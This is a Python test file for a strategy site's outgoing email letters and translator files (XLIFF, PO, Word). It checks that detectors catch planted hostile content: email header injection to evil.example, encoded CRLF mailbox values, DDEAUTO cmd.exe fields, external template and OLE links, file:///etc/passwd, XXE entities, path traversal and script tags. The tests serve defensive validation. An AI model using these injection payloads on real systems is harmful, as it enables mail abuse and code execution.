"""Hostile words in what is sent: letters to those who must have a strategy, and files to and from translators."""

import io
import zipfile
from collections.abc import Iterator
from datetime import date
from email.message import EmailMessage
from functools import cache

import pytest
from pydantic import ValidationError

from strategysite.documents.templates import DocumentTemplates
from strategysite.language.catalogue import read_words
from strategysite.load import Loaded, read_strategy
from strategysite.model.common import Contact
from strategysite.phrase import ENGLISH
from strategysite.register import Registers, read_registers
from strategysite.rules import Case, assess
from strategysite.site.view import StrategyView
from strategysite.submission import letter
from strategysite.submission.letter import Enclosed
from strategysite.submission.package import package as letters
from strategysite.translate.package import Helps, Package, package
from strategysite.translate.pairs import pairs_of
from strategysite.translate.po import from_po, to_po
from strategysite.translate.state import standings
from strategysite.translate.word import to_word
from strategysite.translate.word_reading import from_word
from strategysite.translate.xliff import from_xliff, to_xliff

from ..support.project import PROJECT, TODAY
from .active import in_file
from .packed import in_letter, in_redirects, in_word, in_xliff
from .planting import Hostile

WORDS = {language: read_words(PROJECT / "translations", language) for language in ("en", "cy")}


@cache
def registers() -> Registers:
    return read_registers(PROJECT / "content" / "registers", PROJECT)[0]


@pytest.fixture(scope="module")
def loaded(strategies: tuple[Hostile, ...], tmp_path_factory: pytest.TempPathFactory) -> list[Loaded]:
    """Return every hostile strategy as it is read."""
    root = tmp_path_factory.mktemp("on-its-way")
    return [read_strategy(strategy.written(root / "strategies"), root) for strategy in strategies]


def posted(one: Loaded) -> Iterator[tuple[str, bytes]]:
    assert one.definition, one.problems
    views = {name: StrategyView(one.definition, WORDS[name], TODAY) for name in one.definition.languages}
    links = {name: f"https://example.org/{view.addresses.edition}" for name, view in views.items()}
    enclosed = Enclosed("https://example.org/", links, {}, date(2026, 12, 1))
    outcomes = assess(Case(one.definition, registers(), TODAY))
    render = DocumentTemplates(PROJECT / "templates", WORDS)
    return letters(views, outcomes, registers().guidance, enclosed, render)


def sent_out(one: Loaded) -> Package:
    return package(
        one.folder.name, standings(pairs_of(one), None), "cy", Helps(registers().terms, ENGLISH), everything=True
    )


def test_a_letter_has_its_own_headers_and_readers_alone(loaded: list[Loaded]) -> None:
    found = [(name, seen) for one in loaded for name, data in posted(one) for seen in in_file(name, data)]

    assert found == []


def test_what_stands_in_a_header_is_the_words_of_the_strategy(loaded: list[Loaded]) -> None:
    files = [data for name, data in posted(loaded[0]) if name.endswith(".eml")]

    assert len(files) >= 1
    assert all(b"\r\nSubject: " in data and data.count(b"\r\nSubject:") == 1 for data in files)


def test_without_one_line_for_a_header_a_letter_could_not_even_be_made(
    loaded: list[Loaded], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(letter, "_one_line", lambda words: f"{words}\r\nBcc: all@evil.example")

    with pytest.raises(ValueError, match=r"linefeed or carriage return|invalid"):
        list(posted(loaded[0]))


def test_a_coded_line_end_would_add_a_header_if_coded_words_were_read(
    loaded: list[Loaded], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(letter, "_one_line", lambda words: " ".join(words.split()))

    found = [seen for one in loaded for name, data in posted(one) for seen in in_file(name, data)]

    assert any("Bcc" in seen or "Defect" in seen for seen in found)


@pytest.mark.parametrize("local", ["=?utf-8?Q?a=0D=0ABcc=3Ab?=", "a?bcc=all", "a%0D%0Ab", "a&cc=b", "a#b"])
def test_no_mailbox_says_more_than_where_it_is(local: str) -> None:
    with pytest.raises(ValidationError, match="email"):
        Contact.model_validate({"team": {"en": "A", "cy": "B"}, "email": f"{local}@example.org"})


def test_a_file_for_translators_holds_texts_and_notes_alone(loaded: list[Loaded]) -> None:
    for one in loaded:
        assert list(in_xliff(to_xliff(sent_out(one)))) == []


def test_what_goes_out_comes_back_letter_for_letter(loaded: list[Loaded]) -> None:
    for one in loaded:
        sent = sent_out(one)
        words = {unit.key: unit.source for unit in sent.units}

        for back in (from_xliff(to_xliff(sent)), from_po(to_po(sent))):
            assert {unit.key: unit.source for unit in back.units} == words


def test_the_same_as_a_word_file(loaded: list[Loaded]) -> None:
    for one in loaded[::6]:
        made = to_word(sent_out(one), ENGLISH)

        assert list(in_word(made)) == []
        assert len(from_word(made).units) == len(sent_out(one).units)


def with_part(name: str, content: str) -> bytes:
    """Return a Word file with a part more."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as file:
        file.writestr("word/document.xml", "<document/>")
        file.writestr(name, content)
    return packed.getvalue()


RELATION = '<Relationships><Relationship Type="x/{}" Target="{}" TargetMode="External"/></Relationships>'


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("word/vbaProject.bin", ""),
        ("../../outside.xml", "<a/>"),
        ("/etc/outside.xml", "<a/>"),
        ("word/embeddings/sheet.xlsx", ""),
        ("word/settings.xml", '<settings><attachedTemplate id="1"/></settings>'),
        ("word/footer1.xml", "<a><instrText>DDEAUTO c:\\cmd.exe</instrText></a>"),
        ("word/footer1.xml", '<a><instrText>INCLUDEPICTURE "https://evil.example/i.png"</instrText></a>'),
        ("word/footer1.xml", '<a><fldSimple instr="INCLUDETEXT x"/></a>'),
        ("word/footer1.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a/>'),
        ("word/_rels/document.xml.rels", RELATION.format("image", "https://evil.example/i.png")),
        ("word/_rels/document.xml.rels", RELATION.format("hyperlink", "javascript:alert(1)")),
        ("word/_rels/document.xml.rels", RELATION.format("hyperlink", "file:///etc/passwd")),
        ("word/_rels/document.xml.rels", RELATION.format("attachedTemplate", "https://evil.example/t.dotm")),
        ("word/_rels/document.xml.rels", RELATION.format("oleObject", "https://evil.example/o")),
    ],
)
def test_what_is_active_in_a_word_file_would_be_seen(name: str, content: str) -> None:
    assert list(in_word(with_part(name, content)))


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE a [<!ENTITY b "c">]><xliff>&b;</xliff>',
        "<xliff><?php x ?></xliff>",
        "<xliff><file><unit><script/></unit></file></xliff>",
        '<xliff><ph id="1"/></xliff>',
    ],
)
def test_what_is_active_in_a_file_for_translators_would_be_seen(text: str) -> None:
    assert list(in_xliff(text))


@pytest.mark.parametrize("more", ["Bcc: all@evil.example", "Reply-To: all@evil.example", "Subject: another"])
def test_another_header_of_a_letter_would_be_seen(more: str) -> None:
    good = b"From: A <a@example.org>\r\nTo: B <b@example.org>\r\nSubject: C\r\n"

    assert list(in_letter(good + b"\r\nwords")) == []
    assert list(in_letter(good + more.encode() + b"\r\n\r\nwords"))


def test_another_reader_or_something_enclosed_would_be_seen() -> None:
    message = EmailMessage()
    message["To"] = "a@example.org, all@evil.example"
    message.set_content("words")
    message.add_attachment("<script>", subtype="html", filename="a.html")

    assert len(list(in_letter(message.as_bytes()))) == 2


def test_another_rule_for_a_web_server_would_be_seen() -> None:
    assert list(in_redirects("/old /new 301\n/* https://evil.example/:splat 200\nSet-Cookie: a\n"))


def test_a_name_that_stands_twice_in_data_would_be_seen() -> None:
    for text in ('{"a": 1, "a": 2}', '{"__proto__": 1}', '{"address": "javascript:alert(1)"}', '{"<script>": 1}'):
        assert list(in_file("x.json", text.encode()))


def test_hostile_words_are_in_them(loaded: list[Loaded]) -> None:
    sent = "".join(unit.source for unit in sent_out(loaded[0]).units)

    assert "<script>alert(1)</script>" in sent
    assert any(b"<script>alert(1)</script>" in data for name, data in posted(loaded[0]) if name.endswith(".eml"))
